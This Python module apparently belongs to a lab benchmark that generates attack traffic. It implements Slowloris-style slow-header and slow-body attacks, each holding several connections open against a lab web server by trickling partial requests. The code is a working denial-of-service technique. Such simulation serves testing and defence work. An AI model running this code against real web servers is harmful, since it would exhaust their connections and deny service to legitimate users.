"""What slow attackers of the web site do."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from typing import Final

from benchmarks.lab.client import Client, connected
from benchmarks.lab.plan import WEB
from benchmarks.lab.web import PORT, request

CONNECTIONS: Final = 5  # that a slow attacker holds at once
_CLAIMED_BYTES: Final = 100_000


async def slow_headers(client: Client) -> None:
    """Hold connections whose request never ends: a header line now and then (Slowloris)."""
    await asyncio.gather(*(_hold(client, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n") for _ in range(CONNECTIONS)))


async def slow_body(client: Client) -> None:
    """Hold connections with a form that never ends: some bytes of it now and then."""
    await asyncio.gather(
        *(_hold(client, request(client.rng, "/form", "POST", _CLAIMED_BYTES)) for _ in range(CONNECTIONS))
    )


async def _hold(client: Client, beginning: bytes) -> None:
    """Keep a connection until the server closes it or patience ends, then the next one."""
    rng = client.rng
    while client.left_s > 0:
        await client.breathe()
        patience_s = client.left_s - rng.uniform(8.0, 30.0)
        with suppress(OSError):
            async with connected(client, WEB, PORT) as streams:
                streams[1].write(beginning)
                while client.left_s > max(patience_s, 0.0) and not streams[0].at_eof():
                    with suppress(TimeoutError):
                        await asyncio.wait_for(streams[0].read(4096), rng.uniform(2.0, 6.0))
                    streams[1].write(b"X-%d: %d\r\n" % (rng.randrange(1000), rng.randrange(1000)))
